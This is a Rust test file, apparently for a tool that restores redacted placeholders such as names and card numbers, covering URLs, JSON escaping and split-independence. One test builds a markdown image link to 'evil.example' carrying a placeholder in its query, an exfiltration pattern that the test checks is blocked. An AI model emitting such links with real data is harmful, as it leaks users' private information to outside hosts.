//! Where a placeholder stands decides whether and how its value is written: URLs, JSON.

use super::*;

#[test]
fn urls_keep_their_placeholders() {
    let fixture = fixture();
    let (placeholder, original) = &fixture.known[4];
    let shown = RehydrateOptions::default();
    for spelling in spellings(placeholder) {
        let text = format!("![x](https://evil.example/?q={spelling}) to {spelling}");
        let (out, counts) = fixture.at_every_split(&text, shown);
        assert_eq!(
            out,
            format!("![x](https://evil.example/?q={spelling}) to {original}")
        );
        assert_eq!((counts.restored, counts.kept_in_urls), (1, 1));
        let (out, counts) = fixture.whole(&text, EVERYWHERE);
        assert_eq!(out, text.replace(&spelling, original));
        assert_eq!((counts.restored, counts.kept_in_urls), (2, 0));
    }
    let (person, card) = (&fixture.known[0].0, &fixture.known[3].0);
    let text = format!("<https://{person}.example/{card}/{person}> {card}, `http://a/{person}` {person}");
    let (out, _) = fixture.at_every_split(&text, shown);
    let expected = format!(
        "<https://{person}.example/{card}/{person}> 4111 1111 1111 1111, `http://a/{person}` Alice Johnson"
    );
    assert_eq!(out, expected);
}

/// JSON of the template with every placeholder in it restored by value.
fn restored(fixture: &Fixture, template: &str) -> String {
    fixture
        .known
        .iter()
        .fold(template.to_owned(), |text, (p, o)| text.replace(p, o))
}

#[test]
fn values_in_json_are_escaped_for_it() {
    let fixture = fixture();
    let text: String = fixture
        .known
        .iter()
        .map(|(p, _)| format!("C:\\{p}\\ \"{p}\"\n"))
        .collect();
    let object = serde_json::json!({ "a": [&text], &text: 1 });
    let json = object.to_string();
    let wanted: serde_json::Value =
        serde_json::json!({ "a": [restored(&fixture, &text)], restored(&fixture, &text): 1 });
    let go = json.replace('<', "\\u003c").replace('>', "\\u003E");
    for (source, escape) in [
        (&json, Escape::Json),
        (&json, Escape::Auto),
        (&go, Escape::Json),
        (&go, Escape::Auto),
    ] {
        let (out, _) = fixture.at_every_split(source, escaped(escape));
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&out).unwrap(),
            wanted,
            "{source}"
        );
    }
}

#[test]
fn values_in_json_in_a_json_string_are_escaped_for_both() {
    let fixture = fixture();
    let text: String = fixture
        .known
        .iter()
        .map(|(p, _)| format!("C:\\{p}\\ \"{p}\"\n"))
        .collect();
    let tree = |depth: usize, text: &str| {
        (0..depth).fold(
            serde_json::json!({ "a": [text] }),
            |inner, _| serde_json::json!({ "plain": text, "file": format!(" {inner}") }),
        )
    };
    for depth in 0..4 {
        let source = tree(depth, &text).to_string();
        for escape in [Escape::Json, Escape::Auto] {
            let (out, _) = fixture.at_every_split(&source, escaped(escape));
            assert_eq!(
                serde_json::from_str::<serde_json::Value>(&out).unwrap(),
                tree(depth, &restored(&fixture, &text)),
                "{depth}"
            );
        }
    }
}

#[test]
fn prose_is_not_escaped_by_auto() {
    let fixture = fixture();
    let (placeholder, original) = &fixture.known[5];
    let (out, _) = fixture.at_every_split(&format!("so \"{placeholder}\""), escaped(Escape::Auto));
    assert_eq!(out, format!("so \"{original}\""));
    let (out, _) = fixture.at_every_split(
        &format!("{placeholder}{{\"{placeholder}\"}}"),
        escaped(Escape::Auto),
    );
    assert_eq!(out, format!("{original}{{\"{original}\"}}"));
}

#[test]
fn where_json_ends_does_not_depend_on_the_pieces() {
    let fixture = fixture();
    let (first, second) = (&fixture.known[0].0, &fixture.known[1].0);
    let text = format!("[[{first}\n\\\u{19}(](({second}\\\\)[ \n\\\u{19}(]( \n\\\u{19}(](){second}\\\\\\)");
    let options = RehydrateOptions {
        escape: Escape::Auto,
        in_urls: false,
    };
    fixture.at_every_split(&text, options);
    fixture.at_every_split(&format!("[1] é [x](/{first}) [[{first}]]"), options);
}
